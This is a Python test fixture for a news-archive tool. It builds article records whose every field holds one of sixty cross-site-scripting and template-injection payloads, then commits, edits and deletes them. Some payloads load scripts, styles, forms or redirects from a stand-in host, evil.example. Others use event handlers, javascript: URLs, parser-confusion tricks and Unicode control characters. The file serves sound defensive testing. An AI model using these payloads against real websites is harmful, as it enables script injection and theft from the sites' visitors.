"""Sixty pieces of text that were made to be run where a page takes text for markup, and an archive full of them."""

from archive.facts.items import Article, Caption, Moment, Related
from archive.facts.record import build
from tests import facts
from tests.browsing import HOUR, listing

PAYLOADS = (
    "<script>window.__x=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>window.__x=1</script>",
    "</title><script>window.__x=1</script>",
    "</textarea><script>window.__x=1</script>",
    "</style><script>window.__x=1</script>",
    "<img src=x onerror=window.__x=1>",
    "<img src=//evil.example/a.png>",
    "<img/src='x'/onerror=window.__x=1>",
    "<image href=x onerror=window.__x=1>",
    "<svg onload=window.__x=1>",
    "<svg><script>window.__x=1</script></svg>",
    "<svg><animate onbegin=window.__x=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.__x=1'><text y=20>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='></use></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__x=1>",
    "<math href='javascript:window.__x=1'>a</math>",
    "<math><annotation-xml encoding='text/html'><script>window.__x=1</script></annotation-xml></math>",
    "<iframe src='javascript:window.__x=1'></iframe>",
    "<iframe srcdoc='<script>parent.__x=1</script>'></iframe>",
    "<object data='javascript:window.__x=1'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preconnect href=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/a)}</style>",
    "<p style='background:url(//evil.example/a)'>a</p>",
    "<body onload=window.__x=1>",
    "<details open ontoggle=window.__x=1>a</details>",
    "<video src=x onerror=window.__x=1></video>",
    "<audio src=x onerror=window.__x=1></audio>",
    "<video poster=//evil.example/a.png></video>",
    "<input autofocus onfocus=window.__x=1>",
    "<select autofocus onfocus=window.__x=1></select>",
    "<form action=//evil.example><input name=a><button>a</button></form>",
    "<button formaction='javascript:window.__x=1'>a</button>",
    "<isindex action='javascript:window.__x=1' type=image>",
    "<marquee onstart=window.__x=1>a</marquee>",
    "<a href='javascript:window.__x=1'>a</a>",
    "<a href='jav\tascript:window.__x=1'>a</a>",
    "<a href='data:text/html,<script>window.__x=1</script>'>a</a>",
    "javascript:window.__x=1",
    '" onmouseover="window.__x=1',
    "' onmouseover='window.__x=1",
    '"><script>window.__x=1</script>',
    "'><script>window.__x=1</script>",
    '" autofocus onfocus=window.__x=1 x="',
    "`onmouseover=window.__x=1",
    "--><script>window.__x=1</script><!--",
    "]]><script>window.__x=1</script>",
    "<![CDATA[<script>window.__x=1</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=window.__x=1>'>",
    "<template><script>window.__x=1</script></template>",
    "{{ 7*7 }}{% raw %}{{ request.app }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;window.__x=1&lt;/script&gt;&#60;b&#62;",
    "\ufeff<script>window.__x=1</script>\u202e\u2066",
    "<x onclick=window.__x=1 tabindex=1 id=x>a</x><%00script>\u2028window.__x=1//",
)


FIRST = 1001
CALM = "plain"
NUMBERS = range(FIRST, FIRST + len(PAYLOADS))
ENDLESS = FIRST + len(PAYLOADS), "Anticonstitutionnellement" * 14
"""Number and text of an article of one word."""


def hostile(number, minute, text, outcome, more=""):
    """Return a look whose record holds a text in each field that can hold one."""
    taken = facts.capture(number, minute, body=f"<p>{text}{more}".encode())
    moment = Moment(utc=facts.NOON, raw=text, zone=text, precision="minute", source=text, issue=text)
    article = Article(
        article_id=str(number), url=f"{taken.url}/{text}", headline=text, kicker=text, lead=f"{text}{more}", byline=text,
        body=(f"{text} {more}", f"Avant. {text}"), captions=(Caption(text=text, credit=text),), images=(text,),
        sections=(text,), tags=(text,), related=(Related(title=text, url=text),), language=text, source_line=text,
        published=moment, modified=moment, layout=text, sources={text: text}, issues=(text,),
    )  # fmt: skip
    record = build(article, taken, mirror=text, revision=1)
    check = facts.look(number, minute, outcome, payload=taken.payload, detail=text)
    return facts.Fact(check=check, capture=taken, record=record)


def hostile_story(log, texts):
    """Commit an article for each text and one of a single word, edit them, and make some vanish; a listing names all."""
    told = [*zip(NUMBERS, texts, strict=True), ENDLESS]
    first = [hostile(number, 0, text, "new") for number, text in told]
    facts.write(log, *first, listing(1, "une", *NUMBERS, ENDLESS[0]), summary={"exit": 0, "requests": {}}, crawl="c1")
    facts.write(log, *(hostile(n, HOUR, t, "changed", " 12 de plus") for n, t in told), crawl="c2")
    gone = [
        facts.saw(number, hour * HOUR, "gone", detail=text)
        for number, text in zip(NUMBERS, texts, strict=True)
        for hour in (2, 9)
        if number % 2
    ]
    facts.write(log, *gone, crawl="c3")
